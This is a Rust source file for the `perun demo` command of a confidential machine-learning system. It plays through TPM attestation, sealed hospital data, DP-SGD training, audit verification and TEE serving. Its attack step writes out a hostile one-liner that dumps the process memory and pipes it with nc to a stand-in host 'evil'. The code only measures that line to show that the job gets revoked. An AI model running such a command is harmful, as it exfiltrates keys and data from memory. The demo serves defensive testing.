//! `perun demo`: the whole mission on one machine, on embedded data.
//!
//! In a fresh folder it starts a trust service (SQLite store, TLS on loopback), an swtpm,
//! and a worker whose IMA log comes from the user-space measurer; then it plays each
//! stakeholder in turn: two hospitals seal their halves of a real data set, the model
//! owner seals its model spec, the infrastructure provider enrols the worker and
//! publishes its platform policy; the model owner proposes a job and every owner approves
//! it; the worker attests, receives the keys sealed to its attested key, trains, and seals
//! the model to the model owner, who evaluates it on a held-out set. Then an attack: a
//! program the policy does not allow runs on the worker during a second job; the service
//! revokes it, the worker aborts and wipes, and nothing more is released. Then the trained
//! model is served in `tee` mode: the model owner seals it as a new asset and proposes a
//! serving job under a TEE policy that names the sim TEE (software, for development; no
//! default policy accepts it), the hospitals approve, the enclave's report claims the
//! job and receives the model key, and a clinic verifies the enclave's evidence against
//! its own policy and sends it rows sealed to the attested key. Last, every party
//! verifies the audit chain and sees only what is its own.

use perun_proto::ApiCode;
use std::path::{Path, PathBuf};

use anyhow::{bail, Context as _, Result};
use clap::{Args, ValueEnum};
use perun_core::{AssetKind, Digest, Name};
use perun_proto::audit::AuditKind;
use perun_proto::wire::*;
use perun_proto::JobState;
use perun_seal::{dataset, sealed};
use perun_worker::job::{Progress, RunOptions};
use perun_worker::WorkerError;

use super::local::{LocalWorld, Party};
use crate::embedded;

/// Arguments of `perun demo`.
#[derive(Args)]
pub struct DemoArgs {
    /// Keep everything in this folder (created; must not exist) instead of a temporary one.
    #[arg(long)]
    pub keep: Option<PathBuf>,
    /// Which embedded data set to use.
    #[arg(long, value_enum, default_value_t = DemoData::BreastCancer)]
    pub data: DemoData,
}

/// The embedded data sets.
#[derive(Clone, Copy, ValueEnum)]
pub enum DemoData {
    /// Breast Cancer Wisconsin (569 x 30, 2 classes).
    BreastCancer,
    /// Handwritten digits 8x8 (1797 x 64, 10 classes).
    Digits,
}

fn step(n: u32, text: &str) {
    println!("\n== {n}. {text}");
}

/// Runs the demo.
pub fn run(a: DemoArgs) -> Result<()> {
    let (tmp, root) = match &a.keep {
        Some(dir) => {
            if dir.exists() {
                bail!("{} exists: --keep needs a new folder", dir.display());
            }
            std::fs::create_dir_all(dir)?;
            (None, std::fs::canonicalize(dir)?)
        }
        None => {
            let t = tempfile::tempdir().context("creating a temporary folder")?;
            let p = t.path().to_owned();
            (Some(t), p)
        }
    };
    let result = play(&root, a.data);
    match (&tmp, &result) {
        (None, _) => {
            // The demo's service stopped with it: the hint starts it again where the
            // stakeholders' home expects it.
            let home = crate::home::Home::at(&root.join("home"));
            let listen = super::context::load_remote(&home)
                .map(|r| r.url.trim_start_matches("https://").to_owned())
                .unwrap_or_else(|_| "127.0.0.1:PORT".into());
            println!(
                "\neverything is kept in {0}: to look around, start its trust service again with\n  \
                 perun serve --data {0}/trust --listen {listen}\nthen try PERUN_HOME={0}/home perun job list --as hospital-a",
                root.display()
            )
        }
        (Some(_), Ok(())) => println!("\n(temporary folder removed; use --keep DIR to explore)"),
        _ => {}
    }
    result
}

fn play(root: &Path, data: DemoData) -> Result<()> {
    // DP-SGD needs per-sample gradients: the digits CNN's batch norm mixes samples, so
    // on digits hospital-a's terms limit the number of jobs instead of epsilon.
    let dp = matches!(data, DemoData::BreastCancer);
    let (csv, label, what, spec_json, [asset_a, asset_b, model_asset]) = match data {
        DemoData::BreastCancer => (
            embedded::BREAST_CANCER_CSV,
            "diagnosis",
            "breast-cancer",
            embedded::BREAST_CANCER_MLP,
            ["bc-a", "bc-b", "mlp"],
        ),
        DemoData::Digits => {
            (embedded::DIGITS_CSV, "digit", "digits", embedded::DIGITS_CNN, ["digits-a", "digits-b", "cnn"])
        }
    };

    step(1, "a trust service, an swtpm and a worker start; the stakeholders register (loopback only)");
    let world = LocalWorld::start(root, &["hospital-a", "hospital-b", "model-owner", "infra"])?;
    println!("  trust service  {} (SQLite store {})", world.server().url(), root.join("trust/perun.db").display());
    println!("                 TLS certificate {}: every client pins it", world.service.keys().tls_fingerprint());
    println!("  swtpm          port {} (the worker's TPM 2.0)", world.tpm.port());
    for p in &world.parties {
        println!("  {:<12}   registered, fingerprint {}", p.name().as_str(), p.keys.public().fingerprint());
    }
    let [hospital_a, hospital_b, model_owner, infra] = &world.parties[..] else { bail!("four parties") };

    step(2, &format!("each hospital seals its half of the {what} data set; the model owner seals its model"));
    let full = dataset::import_csv(csv, label)?;
    let parts = full.split(&[40.0, 40.0, 20.0], 7)?;
    println!("  source: {} rows x {} features, {} classes", full.len(), full.sample_len(), full.class_names.len());
    let mut refs = Vec::new();
    let spec = perun_ml::ModelSpec::from_json(spec_json)?;
    let inputs: [(&Party, &str, AssetKind, zeroize::Zeroizing<Vec<u8>>); 3] = [
        (hospital_a, asset_a, AssetKind::Dataset, zeroize::Zeroizing::new(parts[0].to_safetensors()?)),
        (hospital_b, asset_b, AssetKind::Dataset, zeroize::Zeroizing::new(parts[1].to_safetensors()?)),
        (model_owner, model_asset, AssetKind::Model, zeroize::Zeroizing::new(spec_json.to_vec())),
    ];
    // hospital-a's terms: DP-SGD at epsilon <= 3 per job (delta 1e-5), 8 in all (on
    // digits: at most 2 jobs), and it reviews every model trained on its data before the
    // model owner gets it.
    let terms = || super::outputs::TermsFile {
        review: true,
        privacy: dp.then_some(perun_core::PrivacyBudget { epsilon_per_job: 3.0, delta: 1e-5, total_epsilon: 8.0 }),
        max_jobs: (!dp).then_some(2),
        ..Default::default()
    };
    for (p, asset, kind, plain) in &inputs {
        let t = (p.name() == hospital_a.name()).then(terms);
        let (r, out, info) = world.seal_and_register_with(p, asset, *kind, plain, t)?;
        println!(
            "  {:<12} {} ({} bytes sealed, content {}…); key registered wrapped to the service",
            p.name().as_str(),
            out.display(),
            info.sealed_len,
            &info.header.content_digest.to_string()[..19]
        );
        refs.push(r);
    }
    drop(inputs);
    let a: AssetInfo = hospital_a.client.asset(&Name::new(asset_a)?)?;
    println!("  hospital-a's signed terms for {asset_a} (`perun asset show`):");
    super::outputs::print_asset(&a);
    let model_ref = refs.pop().context("model")?;
    println!("  held-out test set: {} rows, which the hospitals give the model owner for evaluation", parts[2].len());

    step(3, "the infrastructure provider enrols the worker's TPM and publishes its platform policy");
    let (mut agent, added, measured) = world.worker(infra, "gpu-1")?;
    println!("  policy {} allows the files measured so far ({measured}) and requires this perun binary", added.digest);
    let policy = perun_attest::JobPolicy::try_from(&added.policy)?;
    for (k, v) in policy.summary() {
        println!("    {k:<14} {v}");
    }
    for d in policy.development() {
        println!("    DEVELOPMENT: {d}");
    }
    println!("  (this machine has no TPM: the swtpm's EK certificate comes from a local CA, swtpm-localca, that only");
    println!("   this development policy names; a policy of TPM makers' roots, --ek-roots hardware, refuses it)");
    println!(
        "  worker gpu-1 enrolled by infra (EK certificate checked), and proved its AK lives in that TPM (MakeCredential / ActivateCredential)"
    );

    step(4, "the model owner proposes a job; every owner approves it");
    // hospital-a's terms ask for DP-SGD: the job declares its (epsilon, delta), and trains
    // on unstandardised features (fitting a standardiser would leak statistics DP-SGD
    // does not protect).
    let privacy = perun_core::DpTarget { epsilon: 3.0, delta: 1e-5, max_grad_norm: 1.0 };
    let manifest = |tag: &str, interval: u64| -> Result<perun_core::JobManifest> {
        let hyper = if dp {
            [("standardize".to_owned(), serde_json::json!(false))].into_iter().collect()
        } else {
            Default::default()
        };
        let mut m = world.manifest(
            format!("{} on two hospitals' data{tag}", spec.name),
            &model_ref,
            &refs,
            added.digest,
            vec![model_owner.name().clone()],
            interval,
            hyper,
        )?;
        m.privacy = dp.then_some(privacy);
        Ok(m)
    };
    let propose = |tag: &str, interval: u64| -> Result<Digest> {
        world.submit_and_approve(
            model_owner,
            manifest(tag, interval)?,
            &[model_owner, hospital_a, hospital_b],
            &mut |who, after| println!("  {:<12} approved  -> job is {}", who.as_str(), after.state.as_str()),
        )
    };
    let job = propose("", 1)?;
    println!("  job {job}");
    if dp {
        println!(
            "  it trains with DP-SGD at epsilon {} (delta {}), per-sample gradients clipped to {}",
            privacy.epsilon, privacy.delta, privacy.max_grad_norm
        );
    }

    step(5, "the worker attests, receives the keys sealed to its attested key, and trains");
    let offered = agent.offered()?;
    println!("  gpu-1 sees {} ready job(s) and claims this one", offered.len());
    let claimed = agent.claim(&job)?;
    let out_dir = root.join("worker").join("outputs");
    let opts = RunOptions { out_dir, compute: perun_ml::backend::Compute::Cpu };
    let bar = super::train::step_bar(1);
    let epochs = spec.training.epochs;
    let report = perun_worker::job::run(&mut agent, &claimed, &opts, &mut |p, _| match p {
        Progress::Released { assets } => {
            let names: Vec<&str> = assets.iter().map(|a| a.as_str()).collect();
            super::train::say(&bar, format!("  evidence accepted; keys released for {}", names.join(", ")));
        }
        Progress::Opened { asset, bytes } => {
            super::train::say(
                &bar,
                format!("  {asset}: fetched, opened in memory ({bytes} bytes), digest matches the manifest"),
            );
        }
        Progress::Training { steps } => bar.set_length(steps),
        Progress::Step => bar.inc(1),
        Progress::Epoch(m) if m.epoch % 10 == 0 || m.epoch == epochs => {
            super::train::say(&bar, format!("  {}", super::train::epoch_line(m)));
        }
        Progress::Epoch(_) => {}
        Progress::Reattested { new_entries } => {
            bar.set_message(format!("re-attested ({new_entries} new IMA entries)"));
        }
        Progress::Delivered { path, review: false } => {
            super::train::say(&bar, format!("  model sealed to model-owner: {}", path.display()));
        }
        Progress::Delivered { path, review: true } => {
            let held = "under a key only the trust service holds until hospital-a's review";
            super::train::say(&bar, format!("  model sealed {held}: {}", path.display()));
        }
    })?;
    bar.finish_and_clear();
    let ph = &report.phases;
    println!(
        "  phases: attestation + key release {:.2}s, fetch + open {:.2}s, training {:.2}s ({} continuous attestations, {:.2}s), seal + deliver {:.2}s",
        ph.attest_and_release, ph.fetch_and_open, ph.train, report.reattestations, ph.reattest, ph.seal_and_deliver
    );
    let seen: JobMetrics = hospital_b.client.job_metrics(&job)?;
    println!("  hospital-b follows the job: {} epochs reported, state {}", seen.epochs.len(), seen.state.as_str());
    let curve = root.join("model-owner").join("training-curve.svg");
    std::fs::write(&curve, perun_ml::curve::svg(&spec.name, &report.metrics))?;
    println!("  training curve: {}", curve.display());

    if let Some(dp) = &report.privacy {
        println!(
            "  DP-SGD: noise multiplier {:.3}, Poisson sample rate {:.3}, {} steps: epsilon {:.3} spent at delta {} (Renyi DP accountant)",
            dp.noise_multiplier, dp.sample_rate, dp.steps, dp.epsilon, dp.target.delta
        );
    }

    step(6, "hospital-a reviews the model and releases it; the model owner opens it, checks its receipt, evaluates it");
    let early: Result<OutputKey, _> = model_owner.client.output_key(&job, "model");
    println!(
        "  model owner asks for the model's key before the review: {}",
        match early {
            Err(e) => format!("refused ({e})"),
            Ok(_) => "GIVEN (must never happen)".into(),
        }
    );
    let audit_key = world.service.keys().signing.verifying_key();
    let receipt: perun_core::receipt::Envelope = hospital_a.client.receipt(&job)?;
    let statement = receipt.verify(&audit_key)?;
    println!(
        "  hospital-a reads the signed receipt (in-toto Statement, DSSE): job {}…, {} inputs, {} approvals, epsilon {:.3}",
        &statement.predicate.job.to_string()[..19],
        statement.predicate.inputs.len(),
        statement.predicate.approvals.len(),
        statement.predicate.privacy.map_or(0.0, |p| p.epsilon)
    );
    let signature = perun_core::sign_digest(
        hospital_a.keys.signing_key(),
        perun_proto::review::REVIEW_CONTEXT,
        &perun_proto::review::review_digest(&job, &receipt),
    );
    let reviewed: JobInfo =
        hospital_a.client.review(&job, &ReviewOutput { release: true, signature: Some(signature) })?;
    let outcome = reviewed.review.map_or("none", |r| r.outcome.as_str());
    println!("  hospital-a releases it: review {outcome}");
    let info: JobInfo = model_owner.client.job(&job)?;
    let out = info.outputs.first().context("the job delivered no output")?;
    let sealed_bytes = std::fs::read(&out.location)?;
    let weights = model_owner.stakeholder().open_output(&info, out, &sealed_bytes)?;
    let receipt_json = serde_json::to_vec(&receipt)?;
    let checked = perun_client::workflow::verify_receipt(&receipt_json, &weights, &audit_key)?;
    println!(
        "  model owner: receipt verified offline against the pinned audit key; the model is its subject ({} subjects)",
        checked.subject.len()
    );
    let mut changed = weights.to_vec();
    if let Some(b) = changed.last_mut() {
        *b ^= 1;
    }
    match perun_client::workflow::verify_receipt(&receipt_json, &changed, &audit_key) {
        Err(e) => println!("  the same model with one byte changed: refused ({e})"),
        Ok(_) => bail!("a changed model verified against the receipt: this must never happen"),
    }
    // The spec the job trained: the manifest's privacy, no standardiser.
    let mut trained = spec.clone();
    if dp {
        trained.training.standardize = false;
        trained.training.privacy = Some(privacy);
        println!(
            "  (the model trained with DP-SGD at epsilon {}: each record's influence is bounded)",
            privacy.epsilon
        );
    }
    let e = perun_ml::evaluate(&trained, &weights, &parts[2], perun_ml::backend::Compute::Cpu)?;
    println!("  accuracy on {} held-out samples: {:.2}%", e.samples, e.accuracy * 100.0);
    for (who, p) in [("hospital-a", hospital_a), ("infra", infra)] {
        let opened = sealed::open_to_vec(&sealed_bytes[..], None, p.keys.age_identity(), None);
        println!(
            "  {who} tries to open the model: {}",
            match opened {
                Err(e) => format!("refused ({e})"),
                Ok(_) => "OPENED (must never happen)".into(),
            }
        );
    }

    step(7, "attacks: a forged worker claims a job; a program the policy does not allow runs during a second job");
    let job2 = propose(" (second run)", 1)?;
    forged_worker(&world, hospital_b, infra, &job2)?;
    let claimed = agent.claim(&job2)?;
    let opts = RunOptions { out_dir: root.join("worker").join("outputs"), compute: perun_ml::backend::Compute::Cpu };
    let mut planted = false;
    let r = perun_worker::job::run(&mut agent, &claimed, &opts, &mut |p, agent| {
        if let Progress::Epoch(m) = p {
            if !planted && m.epoch >= 2 {
                planted = true;
                println!("  epoch {}: someone runs /tmp/exfiltrate on gpu-1 (IMA measures it)", m.epoch);
                let _ = agent
                    .platform()
                    .measure("/tmp/exfiltrate", b"#!/bin/sh\ntar c /proc/$(pidof perun)/mem | nc evil 80\n");
            }
        }
    });
    match r {
        Err(WorkerError::Trust(
            e @ (perun_client::ClientError::Api { code: ApiCode::Refused, .. }
            | perun_client::ClientError::Api { code: ApiCode::Revoked, .. }),
        )) => {
            println!("  the trust service refused the next attestation: {e}");
            println!("  gpu-1 stopped training, wiped keys, data and weights, and reported");
        }
        Err(e) => bail!("the second job failed for an unexpected reason: {e}"),
        Ok(_) => bail!("the second job finished although an unapproved program ran: this must never happen"),
    }
    let info: JobInfo = hospital_a.client.job(&job2)?;
    println!(
        "  job {}… is {}: {}",
        &job2.to_string()[..19],
        info.state.as_str(),
        info.reason.clone().unwrap_or_default()
    );
    if info.state != JobState::Revoked || !info.outputs.is_empty() {
        bail!("the second job must be revoked with no output");
    }
    let nonce: Result<NonceIssued, _> = agent.client().nonce(&job2);
    println!(
        "  gpu-1 asks to go on: {}",
        match nonce {
            Err(e) => format!("refused ({e})"),
            Ok(_) => "allowed (must never happen)".into(),
        }
    );

    let a: AssetInfo = hospital_a.client.asset(&Name::new(asset_a)?)?;
    println!(
        "  {asset_a}'s ledger: {} jobs released, epsilon {:.1} spent (the revoked job's keys had left: it is charged)",
        a.usage.jobs, a.usage.epsilon_spent
    );
    let over = model_owner.client.propose(&ProposeJob { manifest: manifest(" (third run)", 1)? });
    match over {
        Err(e @ perun_client::ClientError::Api { code: ApiCode::TermsRefused, .. }) => {
            println!("  a third job would break hospital-a's terms: {e}")
        }
        Err(e) => bail!("the overspending job was refused for another reason: {e}"),
        Ok(_) => bail!("a job that overspends the privacy budget was accepted: this must never happen"),
    }

    step(
        8,
        "the trained model is served in a TEE (the sim TEE: software, labelled so); a clinic gets private predictions",
    );
    serve_act(&world, &weights, &parts[2])?;

    step(9, "every party verifies the audit log and sees only what is its own");
    for p in &world.parties {
        let log: AuditLog = p.client.audit()?;
        let n = perun_proto::audit::verify_chain(&log.records, &audit_key)?;
        let mine: Vec<_> = log.records.iter().filter_map(|v| v.body.as_ref()).collect();
        let released = mine.iter().filter(|b| b.kind == AuditKind::KeyReleased).count();
        let revoked = mine.iter().filter(|b| b.kind == AuditKind::JobRevoked).count();
        println!(
            "  {:<12} chain of {n} records verified; {} concern it ({released} key releases, {revoked} revocation)",
            p.name().as_str(),
            mine.len()
        );
    }
    let log: AuditLog = hospital_a.client.audit()?;
    if let Some(b) =
        log.records.iter().filter_map(|v| v.body.as_ref()).find(|b| b.kind == AuditKind::AttestationRefused)
    {
        println!("  why job 2 was revoked, in hospital-a's audit view: {}", b.detail);
    }
    drop(agent);
    drop(world);
    Ok(())
}

/// Act 7a: a software TPM certified by a CA of the attacker's own. A stakeholder that
/// is not the provider cannot enrol it; the provider (root on its hosts) can, but the
/// job's policy does not list that CA, so its claim is refused and nothing is released.
fn forged_worker(world: &LocalWorld, stakeholder: &Party, infra: &Party, job: &Digest) -> Result<()> {
    use perun_tpm::swtpm::{LocalCa, Swtpm};
    let rogue_ca = LocalCa::at(&world.root.join("rogue-localca"))?;
    let rogue = Swtpm::start_with(&rogue_ca)?;
    let mut tpm = perun_tpm::device::Tpm::connect(&rogue.tcti(), perun_tpm::tools::KeyAlg::Rsa)?;
    let body = EnrolWorker {
        name: Name::new("rogue-1")?,
        ek_public: tpm.ek_public().to_vec(),
        ek_certificate: tpm.ek_certificate()?,
        ek_chain: Vec::new(),
    };
    match stakeholder.client.enrol_worker(&body) {
        Err(e) => println!("  {} tries to enrol its own software TPM: refused ({e})", stakeholder.name().as_str()),
        Ok(_) => bail!("a stakeholder without the provider role enrolled a worker: this must never happen"),
    }
    let _: WorkerInfo = infra.client.enrol_worker(&body)?;
    let platform = perun_worker::Platform::user_space(tpm)?;
    let forged =
        perun_worker::Agent::enrol(&world.anon, Name::new("rogue-1")?, platform, perun_tpm::tools::KeyAlg::Rsa)?;
    println!("  infra enrols a software TPM certified by a CA of its own as rogue-1 (EK certificate present)");
    match forged.claim(job) {
        Err(e) => println!("  rogue-1 claims job {}…: refused ({e})", &job.to_string()[..19]),
        Ok(_) => bail!("a TPM the policy does not trust claimed a job: this must never happen"),
    }
    let info: JobInfo = infra.client.job(&job)?;
    if info.released || info.state != JobState::Ready {
        bail!("the forged worker's claim changed the job: this must never happen");
    }
    println!("  the job is still {}, no key released", info.state.as_str());
    Ok(())
}

/// Act 8: the trained model behind `perun enclave serve` on the sim TEE, and a clinic's
/// private predictions.
fn serve_act(world: &LocalWorld, weights: &[u8], held_out: &perun_seal::Dataset) -> Result<()> {
    use perun_enclave::source::SimTee;

    let [hospital_a, hospital_b, model_owner, infra] = &world.parties[..] else { bail!("four parties") };
    let sim = SimTee::for_this_binary(ed25519_dalek::SigningKey::generate(&mut rand::rngs::OsRng))?;
    let sim_key = sim.public_key();
    let served = world.serve_on_sim(
        model_owner,
        &[hospital_a, hospital_b],
        "mlp-trained",
        weights,
        sim,
        &mut |who, after| println!("  {:<12} approved  -> serving job is {}", who.as_str(), after.state.as_str()),
    )?;
    println!(
        "  model-owner sealed the trained model (weights carrying their spec) as asset mlp-trained ({} bytes sealed)",
        served.sealed_len
    );
    println!(
        "  TEE policy {} (published by infra) requires this perun binary's measurement and names the sim key {}…",
        served.policy_digest,
        &sim_key[..16]
    );
    for d in perun_attest::JobPolicy::Tee(served.policy.clone()).development() {
        println!("    DEVELOPMENT: {d}; the approvals above accepted that (a CLI approver passes --allow-development)");
    }
    println!(
        "  enclave tee-1: {:?} report accepted ({}); the model key was sealed to the key it binds",
        served.claims.kind, served.claims.tcb_status
    );
    let url = served.running.url();
    println!("  serving at {url} (private requests only)");

    // The job's receiver (the model owner) queries it, each request signed with its key.
    let querier =
        |p: &super::local::Party| perun_enclave::Querier { name: p.name().clone(), key: p.keys.signing_key().clone() };
    let now = perun_trust::unix_now();
    let mut production = served.policy.clone();
    production.name = "production (hardware TEEs only)".into();
    production.sim_keys.clear();
    let refused = perun_enclave::RemoteModel::connect(&url, &production, served.job, querier(model_owner), now);
    println!(
        "  the receiver's production policy: {}",
        match refused {
            Err(e) => format!("refused ({e})"),
            Ok(_) => "accepted (must never happen)".into(),
        }
    );
    // The host's operator is no receiver: the enclave answers it nothing.
    let host = perun_enclave::RemoteModel::connect(&url, &served.policy, served.job, querier(infra), now)?;
    let rows = held_out.rows();
    match host.predict(rows.get(..1).unwrap_or(&[])) {
        Err(e) => println!("  {} (the host's operator) queries the model: refused ({e})", infra.name()),
        Ok(_) => bail!("the host's operator got a prediction: this must never happen"),
    }
    let remote = perun_enclave::RemoteModel::connect(&url, &served.policy, served.job, querier(model_owner), now)?;
    println!(
        "  {} (the job's receiver), with the demo policy: evidence verified (fresh nonce, job, serving key bound); the rows go sealed, the requests signed",
        model_owner.name()
    );
    let t = std::time::Instant::now();
    let mut predictions = Vec::new();
    for chunk in rows.chunks(64) {
        predictions.extend(remote.predict(chunk)?);
    }
    let elapsed = t.elapsed();
    let hits = predictions.iter().zip(&held_out.labels).filter(|(p, &l)| p.class as i64 == l).count();
    println!(
        "  {}: {} private predictions in {:.0} ms, {hits} match the held-out labels ({:.2}%)",
        model_owner.name(),
        predictions.len(),
        elapsed.as_secs_f64() * 1e3,
        100.0 * hits as f64 / predictions.len().max(1) as f64
    );
    let local =
        perun_ml::Predictor::from_model(weights, perun_ml::backend::Compute::Cpu)?.predict(&held_out.features)?;
    let same =
        local.iter().zip(&predictions).all(|(l, p)| l.iter().zip(&p.probabilities).all(|(a, b)| (a - b).abs() < 1e-5));
    println!(
        "  the model owner's own copy gives {} probabilities; the host saw only ciphertext",
        if same { "the same" } else { "DIFFERENT" }
    );
    // The model trained with DP-SGD at epsilon 3: well above the majority class (63%).
    if !same || hits * 10 < predictions.len() * 7 {
        bail!("the served model must answer as the trained one does");
    }
    served.running.finish()?;
    println!("  enclave stopped, model wiped; serving job finished");
    Ok(())
}
